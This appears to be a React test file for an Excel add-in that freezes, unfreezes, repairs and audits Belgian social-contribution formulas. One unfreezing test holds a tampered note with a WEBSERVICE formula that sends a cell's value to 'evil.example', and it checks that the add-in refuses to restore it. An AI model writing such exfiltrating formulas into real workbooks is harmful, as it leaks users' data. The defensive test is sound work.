import { TextEncoder } from "node:util";
import { screen, waitFor, within } from "@testing-library/react";
import userEvent, { type UserEvent } from "@testing-library/user-event";
import { useState } from "react";
import { Unsupported, type Work } from "../../src/host/host";
import { dataVersion } from "../../src/parameters";
import { checksumOf, fnv1a } from "../../src/formula/checksum";
import { readNote } from "../../src/formula/frozen-note";
import { WorkbookView } from "../../src/taskpane/workbook/workbook-view";
import { NEW_WORKBOOK } from "./fake-host";
import { type MemoryCell, MemoryHost } from "./memory-host";
import { renderView } from "./setup";

// jsdom has neither.
globalThis.TextEncoder ??= TextEncoder;
Object.assign(Element.prototype, { scrollIntoView: () => undefined });

const QUARTER = '=INASTI.QUARTERLY(B1,"principal",2026)';
const SUM = '=SUM(INASTI.QUARTERLY(B1,"principal",2026),INASTI.QUARTERLY(B2,"principal",2026))*2';
const TABLE = "=FUND.COMPARE(B1,2026)";
const REFUSED = '=INASTI.QUARTERLY("much","principal",2026)';
const OUTSIDE = '=INASTI.QUARTERLY(INDIRECT("B1"),"principal",2026)';

const RESULTS = {
  [QUARTER]: 2050,
  // 20.5 % of 40 000 and of 30 000, a quarter of each, doubled.
  [SUM]: 7175,
  [TABLE]: [
    ["fund", "rate"],
    ["Acerta", 0.0305],
  ],
  [REFUSED]: "#VALUE!",
  [OUTSIDE]: 2050,
};

const CELLS: Record<string, MemoryCell> = {
  "Client!B1": { value: 40_000 },
  "Client!B2": { value: 30_000 },
  "Client!A1": { formula: QUARTER },
  "Client!A2": { formula: SUM, note: "Mine" },
  "Funds!B1": { value: 2050 },
  "Funds!C3": { formula: TABLE },
};

let user: UserEvent;

beforeEach(() => {
  user = userEvent.setup();
});

const hostOf = (cells = CELLS, language = "en-GB"): MemoryHost => new MemoryHost(cells, RESULTS, language);
const button = (name: string | RegExp): HTMLElement => screen.getByRole("button", { name });
const click = async (name: string | RegExp): Promise<void> => user.click(await screen.findByRole("button", { name }));

async function open(host: MemoryHost): Promise<void> {
  await renderView(<WorkbookView active />, host);
  if (host.hasWorkbook)
    await waitFor(() => expect(screen.queryByText("Counting the formulas…")).not.toBeInTheDocument());
}

/** As the pane does when another view is shown. */
function Switch() {
  const [active, setActive] = useState(true);
  return (
    <>
      <button onClick={() => setActive(!active)}>{active ? "Away" : "Back"}</button>
      <WorkbookView active={active} />
    </>
  );
}

describe("what is there", () => {
  it("is counted, and anew whenever the view is shown", async () => {
    const host = hostOf();
    await renderView(<Switch />, host);
    expect(await screen.findByText("3 formulas on 2 sheets.")).toBeVisible();
    await click("Away");
    host.type("Client!A3", { formula: QUARTER });
    await click("Back");
    expect(await screen.findByText("4 formulas on 2 sheets.")).toBeVisible();
  });

  it("is nothing yet: the view says how to begin", async () => {
    await open(hostOf({ "A!A1": { formula: "=1+1" } }));
    expect(screen.getByText(/^This workbook has no formula of Statut Social yet/)).toBeVisible();
    expect(button("Open the calculator")).toBeEnabled();
    expect(button("Run the audit")).toBeDisabled();
    expect(button("Freeze…")).toBeDisabled();
  });

  it("is unknown without a spreadsheet", async () => {
    const host = hostOf();
    host.hasWorkbook = false;
    await open(host);
    expect(screen.getByText(/^Open the pane in Excel to check, recalculate or freeze/)).toBeVisible();
    for (const name of ["Recalculate all", "Run the audit", "Freeze…", "Unfreeze…"])
      expect(button(name)).toBeDisabled();
  });

  it("cannot be read: the view says why, and tries again", async () => {
    const host = hostOf();
    host.failure = new Error("The workbook is busy.");
    await renderView(<WorkbookView active />, host);
    expect(await screen.findByText("The workbook could not be read. The workbook is busy.")).toBeVisible();
    host.failure = undefined;
    await click("Try again");
    expect(await screen.findByText("3 formulas on 2 sheets.")).toBeVisible();
  });
});

describe("recalculation", () => {
  it("shows both versions of the data, and brings the workbook to the add-in's", async () => {
    const host = hostOf();
    host.state = { ...NEW_WORKBOOK, dataVersion: "old 2025-06-30" };
    await open(host);
    const value = (label: string): string | null => screen.getByText(label).nextElementSibling?.textContent ?? null;
    expect(value("Workbook calculated with data")).toBe("old 2025-06-30");
    expect(value("Data of the add-in")).toBe(dataVersion);
    await click("Recalculate all");
    expect(await screen.findByText(`Everything is calculated with data ${dataVersion}.`)).toBeVisible();
    expect(host.recalculations).toBe(1);
    expect(value("Workbook calculated with data")).toBe(dataVersion);
  });
});

describe("sharing", () => {
  it("asks nobody without the add-in, unless somebody wants it so", async () => {
    const host = hostOf();
    await open(host);
    const quiet = screen.getByRole("checkbox", { name: "Open without that question" });
    expect(quiet).toBeChecked();
    await user.click(quiet);
    expect(
      await screen.findByText("Excel may ask people without the add-in once the workbook is saved."),
    ).toBeVisible();
    expect(host.state.asksTrust).toBe(true);
    expect(quiet).not.toBeChecked();
    host.failure = new Error("The workbook is read-only.");
    await user.click(quiet);
    expect(await screen.findByText("The operation failed. The workbook is read-only.")).toBeVisible();
    expect(quiet).not.toBeChecked();
  });
});

describe("freezing", () => {
  it("asks first, and a no changes nothing", async () => {
    const host = hostOf();
    const before = host.content;
    await open(host);
    await click("Freeze…");
    const question = await screen.findByRole("group", { name: "Freeze 3 cells on 2 sheets?" });
    expect(screen.getByRole("heading", { name: "Freeze 3 cells on 2 sheets?" })).toHaveFocus();
    expect(button("Freeze…")).toBeDisabled();
    await user.click(await within(question).findByRole("button", { name: "Cancel" }));
    expect(screen.queryByRole("group")).not.toBeInTheDocument();
    await click("Freeze…");
    await screen.findByRole("group");
    await user.keyboard("{Escape}");
    expect(screen.queryByRole("group")).not.toBeInTheDocument();
    expect(button("Freeze…")).toHaveFocus();
    expect(host.content).toEqual(before);
  });

  it("puts values in the place of the formulas, each with its note; unfreezing gives the workbook back", async () => {
    const host = hostOf();
    const before = host.content;
    await open(host);
    await click("Freeze…");
    await click("Freeze 3 cells");
    expect(await screen.findByText("Frozen: 3 cells.")).toBeVisible();
    expect(await screen.findByText("Frozen: 3 cells on 2 sheets.")).toBeVisible();
    const note = host.content["Client!A2"]!.note!;
    const [first, , heading, formula] = note.split("\n");
    expect([first, formula]).toEqual(["Mine", SUM]);
    expect(heading).toMatch(/^Statut Social: formula frozen on \d{1,2} \w+ \d{4}, data /);
    expect(heading).toContain(dataVersion);
    expect(readNote(note)).toMatchObject({ formula: SUM, dataVersion });
    expect(button("Freeze…")).toBeDisabled();

    await click("Unfreeze…");
    await click("Bring 3 cells back");
    expect(await screen.findByText("Formulas back in 3 cells.")).toBeVisible();
    expect(host.content).toEqual(before);
  });

  it("names the own figures that the values were calculated with", async () => {
    const host = hostOf();
    const fee = {
      parameter: "funds.fee.acerta",
      from: "2027-01-01",
      to: "2027-12-31",
      value: "0.031",
      source: "Acerta",
    };
    const ownFigures = JSON.stringify({ format: "statut-social own figures 1", figures: [fee] });
    host.state = { ...NEW_WORKBOOK, ownFigures };
    await open(host);
    await click("Freeze…");
    await click("Freeze 3 cells");
    expect(await screen.findByText("Frozen: 3 cells.")).toBeVisible();
    expect(host.content["Client!A1"]!.note).toContain(`data ${dataVersion}, with 1 own figure: `);
    expect(host.content["Client!A1"]!.note).toContain("Acerta");
  });

  it("keeps to the sheet in front where that is chosen", async () => {
    const host = hostOf();
    host.cell = { ...host.cell, sheet: "Funds" };
    await open(host);
    await user.selectOptions(await screen.findByRole("combobox", { name: "Scope" }), "Active sheet");
    await click("Freeze…");
    await click("Freeze 1 cell");
    expect(await screen.findByText("Frozen: 1 cell.")).toBeVisible();
    expect(host.content["Client!A1"]!.formula).toBe(QUARTER);
    expect(host.content["Funds!C3"]!.formula).toBeUndefined();
  });

  it("says which sheets are protected before, and which cells were left after", async () => {
    const host = hostOf();
    host.locked = ["Funds"];
    await open(host);
    await click("Freeze…");
    expect(await screen.findByText("Protected and left alone: Funds.")).toBeVisible();
    await click("Freeze 2 cells");
    expect(await screen.findByText(/^Skipped: the sheet is protected/)).toBeVisible();
    await click("Select Funds!C3");
    expect(host.cell).toMatchObject({ sheet: "Funds", address: "C3" });
  });

  it("lists what was typed over since, and leaves it", async () => {
    const host = hostOf();
    await open(host);
    await click("Freeze…");
    await click("Freeze 3 cells");
    await screen.findByText("Frozen: 3 cells.");
    host.type("Client!A1", { value: 1 });
    await click("Unfreeze…");
    // Before, too.
    expect(await screen.findByText(/^Changed or filled with something else since they were frozen/)).toBeVisible();
    await click("Bring 2 cells back");
    expect(await screen.findByText("Formulas back in 2 cells.")).toBeVisible();
    expect(screen.getByText(/^Changed or filled with something else since they were frozen/)).toBeVisible();
    expect(button("Select Client!A1")).toBeVisible();
    expect(host.content["Client!A1"]!.value).toBe(1);
  });

  it("says how far it came when the host fails half-way, and what to do", async () => {
    const host = hostOf();
    await open(host);
    await click("Freeze…");
    // Three notes and one value.
    host.failAfter = 4;
    await click("Freeze 3 cells");
    expect(
      await screen.findByText(
        /^Frozen: 1 cell\. Then it stopped, and the other formulas are still there: The host gave up\./,
      ),
    ).toBeVisible();
    host.failAfter = undefined;
    await click("Unfreeze…");
    await click("Bring 3 cells back");
    expect(
      await screen.findByText("Formulas back in 1 cell. Taken from cells whose formula was back already: 2 notes."),
    ).toBeVisible();
  });

  it("can be stopped, and nothing else begins meanwhile", async () => {
    const host = hostOf();
    let signal: AbortSignal | undefined;
    let finish: (done: number) => void = () => undefined;
    host.freeze = (_cells, work: Work = {}) => {
      signal = work.signal;
      work.onProgress?.(1, 3);
      return new Promise((resolve) => (finish = resolve));
    };
    await open(host);
    await click("Freeze…");
    await click("Freeze 3 cells");
    const bar = await screen.findByRole("progressbar", { name: "Freezing… 1 of 3" });
    expect(bar).toHaveAttribute("aria-valuenow", "1");
    expect(button("Stop")).toHaveFocus();
    for (const name of ["Recalculate all", "Run the audit", "Freeze…", "Unfreeze…"])
      expect(button(name)).toBeDisabled();
    await click("Stop");
    expect(signal?.aborted).toBe(true);
    finish(1);
    expect(await screen.findByText(/^Frozen: 1 cell\. Stopped: the other formulas are still there\./)).toBeVisible();
    expect(button("Run the audit")).toBeEnabled();
  });

  it("is not offered where the spreadsheet has no notes for us", async () => {
    const host = hostOf();
    host.noteFailure = new Unsupported("notes");
    await open(host);
    expect(screen.getByText(/^This version of Excel lets no add-in write notes/)).toBeVisible();
    expect(button("Freeze…")).toBeDisabled();
    expect(button("Unfreeze…")).toBeDisabled();
    expect(button("Run the audit")).toBeEnabled();
  });
});

describe("unfreezing", () => {
  const frozen = async (language?: string): Promise<MemoryHost> => {
    const host = hostOf(CELLS, language);
    await open(host);
    await click("Freeze…");
    await click("Freeze 3 cells");
    await screen.findByText("Frozen: 3 cells.");
    return host;
  };

  it("shows each formula that it will write and asks; a no changes nothing", async () => {
    const host = await frozen();
    const before = host.content;
    await click("Unfreeze…");
    const question = await screen.findByRole("group", { name: "Bring the formulas of 3 cells on 2 sheets back?" });
    expect(screen.getByRole("heading", { name: /^Bring the formulas/ })).toHaveFocus();
    const list = within(question).getByRole("list", { name: "Formulas to be written" });
    expect(
      within(list)
        .getAllByRole("listitem")
        .map(({ textContent }) => textContent),
    ).toEqual([`Client!A1${QUARTER}`, `Client!A2${SUM}`, `Funds!C3${TABLE}`]);
    await user.click(await within(list).findByRole("button", { name: "Select Funds!C3" }));
    expect(host.cell).toMatchObject({ sheet: "Funds", address: "C3" });
    await user.keyboard("{Escape}");
    expect(screen.queryByRole("group")).not.toBeInTheDocument();
    expect(button("Unfreeze…")).toHaveFocus();
    expect(host.content).toEqual(before);
  });

  it("writes no formula that freezing would not take, and says which part of it is the reason", async () => {
    const host = await frozen();
    const formula = '=INASTI.QUARTERLY(WEBSERVICE("http://evil.example/?"&B1))';
    const sum = fnv1a(formula);
    const note = `Frozen\n${formula}\n[statut-social/1 D1 1x1 ${checksumOf([[2050]])} 1 ${sum} 2026-01-01 d1]`;
    host.type("Client!D1", { value: 2050, note });
    await click("Unfreeze…");
    const question = await screen.findByRole("group");
    expect(question).toHaveTextContent(/never brought back from a note.*Client!D1 WEBSERVICE/);
    await click("Bring 3 cells back");
    expect(await screen.findByText("Formulas back in 3 cells.")).toBeVisible();
    expect(host.content["Client!D1"]).toEqual({ value: 2050, note });
    await click("Unfreeze…");
    expect(await screen.findByText("None of what is frozen here can be brought back.")).toBeVisible();
    expect(screen.queryByRole("group", { name: /^Bring/ })).not.toBeInTheDocument();
  });

  it("leaves what changed while the question stood", async () => {
    const host = await frozen();
    await click("Unfreeze…");
    await screen.findByRole("group");
    host.type("Client!A1", { value: 1 });
    await click("Bring 3 cells back");
    expect(await screen.findByText("Formulas back in 2 cells.")).toBeVisible();
    expect(button("Select Client!A1")).toBeVisible();
    expect(host.content["Client!A1"]!.value).toBe(1);
  });

  it("lists no more cells than anybody reads", async () => {
    const many = Array.from({ length: 205 }, (_, row): [string, MemoryCell] => [
      `Many!A${row + 1}`,
      { formula: QUARTER },
    ]);
    const host = hostOf(Object.fromEntries(many));
    await open(host);
    await click("Freeze…");
    await click("Freeze 205 cells");
    await screen.findByText("Frozen: 205 cells.", {}, { timeout: 20_000 });
    await click("Unfreeze…");
    const list = await screen.findByRole("list", { name: "Formulas to be written" }, { timeout: 20_000 });
    expect(within(list).getAllByRole("listitem")).toHaveLength(201);
    expect(list).toHaveTextContent("and 5 more");
  });
});

it("asks before a formula stays live because it could not come back", async () => {
  await open(hostOf({ ...CELLS, "Client!D1": { formula: OUTSIDE } }));
  await click("Freeze…");
  const question = await screen.findByRole("group", { name: "Freeze 3 cells on 2 sheets?" });
  expect(question).toHaveTextContent(/never brought back from a note.*Client!D1 INDIRECT/);
});

describe("repairing", () => {
  const STORED = '=[2]!_xldudf_INASTI_QUARTERLY(B1,"principal",2026)';
  const stuckHost = (): MemoryHost => {
    const host = hostOf({ ...CELLS, "Client!A3": { formula: STORED } });
    host.type("Client!A3", { value: "#NAME?" });
    host.type("Funds!C3", { value: "#NAME?" });
    return host;
  };

  it("says how many cells are stuck, shows what it will write and asks; a no changes nothing", async () => {
    const host = stuckHost();
    const before = host.content;
    await open(host);
    expect(await screen.findByText("Excel does not find our functions in 2 cells.")).toBeVisible();
    await click("Repair…");
    const question = await screen.findByRole("group", { name: "Enter the formulas of 2 cells on 2 sheets again?" });
    const list = within(question).getByRole("list", { name: "Formulas to be written" });
    expect(
      within(list)
        .getAllByRole("listitem")
        .map(({ textContent }) => textContent),
    ).toEqual([`Funds!C3${TABLE}`, `Client!A3${QUARTER}`]);
    await click("Cancel");
    expect(button("Repair…")).toHaveFocus();
    expect(host.content).toEqual(before);
  });

  it("enters the formulas again, and says so", async () => {
    const host = stuckHost();
    await open(host);
    await click("Repair…");
    await click("Repair 2 cells");
    expect(await screen.findByText("Repaired: 2 cells.")).toBeVisible();
    expect(host.content["Client!A3"]).toEqual({ formula: QUARTER, value: 2050 });
    expect(host.content["Funds!D4"]).toEqual({ value: 0.0305 });
    await waitFor(() => expect(screen.queryByText(/^Excel does not find our functions/)).not.toBeInTheDocument());
    await click("Repair…");
    expect(await screen.findByText(/^Excel finds our functions in all cells/)).toBeVisible();
    host.undo();
    expect(host.content["Client!A3"]!.formula).toBe(STORED);
  });

  it("names protected sheets, and leads to the page of the help", async () => {
    const host = stuckHost();
    host.locked = ["Client", "Funds"];
    await open(host);
    await click("Repair…");
    expect(await screen.findByText("None of the cells can be repaired.")).toBeVisible();
    expect(screen.getByText(/^Skipped: the sheet is protected/)).toBeVisible();
    expect(button("Select Client!A3")).toBeVisible();
    expect(screen.getByRole("link", { name: "Functions do not answer?" })).toHaveAttribute(
      "href",
      "help/functions-do-not-answer.html#en",
    );
  });

  it("takes formulas that hide an error only where that is asked for", async () => {
    const guarded = `=IFERROR(${QUARTER.slice(1)},0)`;
    await open(hostOf({ "Client!A1": { formula: guarded } }));
    await click("Repair…");
    expect(await screen.findByText(/^Excel finds our functions in all cells/)).toBeVisible();
    await user.click(await screen.findByRole("checkbox", { name: /^Also formulas that hide an error/ }));
    await click("Repair…");
    expect(await screen.findByRole("button", { name: "Repair 1 cell" })).toBeVisible();
    expect(screen.getByText(guarded)).toBeVisible();
  });

  it("comes before freezing, which leaves such cells", async () => {
    await open(stuckHost());
    await click("Freeze…");
    await click("Freeze 2 cells");
    expect(await screen.findByText("Frozen: 2 cells.")).toBeVisible();
    expect(screen.getByText(/Repair them first/)).toBeVisible();
  });
});

describe("the audit", () => {
  const entry = (address: string): HTMLElement => button(`Select ${address}`).closest("li")!;

  it("lists each formula with its value and figures, by sheet; a click selects the cell", async () => {
    const host = hostOf();
    await open(host);
    await click("Run the audit");
    expect(await screen.findByRole("button", { name: "Client: 2 formulas" })).toBeVisible();
    expect(button("Funds: 1 formula")).toBeVisible();
    const quarter = entry("Client!A1");
    expect(quarter).toHaveTextContent(QUARTER);
    expect(quarter).toHaveTextContent("€2,050.00");
    await click(/: Client A1$/);
    // law/contributions.md: the scale of 2026.
    const rate = within(quarter).getByText("Rate of the first bracket").closest("li")!;
    expect(rate).toHaveTextContent("20.5%");
    await user.click(await within(rate).findByRole("button", { name: /Source/ }));
    expect(screen.getByRole("link", { name: /Royal decree no 38/ })).toBeVisible();
    await click("Select Client!A2");
    expect(host.cell).toMatchObject({ sheet: "Client", address: "A2" });
  });

  it("goes into a sheet of texts and figures, without a formula, each figure once with its source", async () => {
    const host = hostOf();
    host.state = { ...NEW_WORKBOOK, dataVersion: "old" };
    await open(host);
    await click("Run the audit");
    await screen.findByRole("button", { name: "Client: 2 formulas" });
    await click("Add as a sheet");
    expect(await screen.findByText("Inserted as the sheet “Audit”.")).toBeVisible();
    const { rows, landscape } = host.sheets[0]!;
    expect(landscape).toBe(true);
    expect(rows.flat().filter(({ content, literal }) => typeof content === "string" && !literal)).toEqual([]);
    const text = rows.map((row) => row.map(({ content }) => content));
    expect(text).toContainEqual(["Workbook calculated with data", undefined, undefined, "old"]);
    expect(text).toContainEqual(["Formulas", undefined, undefined, "3 formulas"]);
    const quarter = text.find((row) => row[1] === "A1")!;
    expect(quarter.slice(0, 5)).toEqual(["Client", "A1", 2050, QUARTER, "INASTI.QUARTERLY"]);
    expect(quarter[5]).toMatch(/\[\d+\] Rate of the first bracket/);
    const laws = text.slice(text.findIndex(([first]) => first === "Figures of the law") + 2);
    const rate = laws.filter((row) => row[3] === "Rate of the first bracket\ncontributions.rate.bracket1");
    expect(rate).toHaveLength(1);
    expect(rate[0]!.slice(4)).toEqual([
      0.205,
      "Royal decree no 38 of 27/07/1967",
      expect.stringContaining("AR38 12"),
      expect.stringMatching(/^https:/),
      expect.any(String),
    ]);
    expect(new Set(laws.map(([number]) => number)).size).toBe(laws.length);
  });

  it("gives the reason of an error, and says where a formula could not be followed", async () => {
    await open(hostOf({ "Client!A1": { formula: REFUSED }, "Client!A2": { formula: OUTSIDE } }));
    await click("Run the audit");
    await screen.findByRole("button", { name: "Client: 2 formulas" });
    expect(entry("Client!A1")).toHaveTextContent(/INASTI\.QUARTERLY: #VALUE! .*income/);
    expect(entry("Client!A2")).toHaveTextContent("The formula could not be followed because of INDIRECT");
  });

  it("says where a cell shows what the formula no longer gives", async () => {
    await open(hostOf({ ...CELLS, "Client!B1": { value: 50_000 } }));
    await click("Run the audit");
    await screen.findByRole("button", { name: "Client: 2 formulas" });
    // 20.5 % of 50 000, a quarter of it.
    expect(entry("Client!A1")).toHaveTextContent(/Calculated again now it gives .*2,?562\.5/);
  });

  it("has frozen formulas by their notes", async () => {
    const host = hostOf();
    await open(host);
    await click("Freeze…");
    await click("Freeze 3 cells");
    await screen.findByText("Frozen: 3 cells.");
    host.type("Client!A1", { value: 1 });
    await click("Run the audit");
    await screen.findByRole("button", { name: "Client: 2 formulas" });
    expect(entry("Client!A2")).toHaveTextContent(SUM);
    expect(entry("Client!A2")).toHaveTextContent(/Frozen on .* with data/);
    expect(entry("Client!A2")).not.toHaveTextContent("Somebody changed the value");
    expect(entry("Client!A1")).toHaveTextContent("Somebody changed the value since it was frozen.");
  });
});

it("speaks the user's language, with semicolons and a decimal comma in formulas", async () => {
  const host = hostOf(CELLS, "fr-BE");
  await renderView(<WorkbookView active />, host);
  expect(await screen.findByText("3 formules sur 2 feuilles.")).toBeVisible();
  await click("Lancer le contrôle");
  expect(await screen.findByText('=INASTI.QUARTERLY(B1;"principal";2026)')).toBeVisible();
  await click("Figer…");
  expect(await screen.findByRole("heading", { name: "Figer 3 cellules sur 2 feuilles\u00a0?" })).toBeVisible();
});
